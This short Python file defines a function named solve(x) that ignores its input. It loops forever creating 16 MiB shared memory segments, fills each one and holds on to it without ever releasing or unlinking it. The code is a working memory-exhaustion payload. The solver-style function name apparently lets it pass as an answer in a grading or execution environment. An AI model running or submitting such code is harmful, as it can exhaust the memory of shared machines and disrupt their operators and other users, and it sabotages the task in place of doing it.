"""Fills shared memory segments."""

from multiprocessing import shared_memory

def solve(x):
    held = []
    while True:
        segment = shared_memory.SharedMemory(create=True, size=2**24)
        segment.buf[:] = b"x" * 2**24
        held.append(segment)
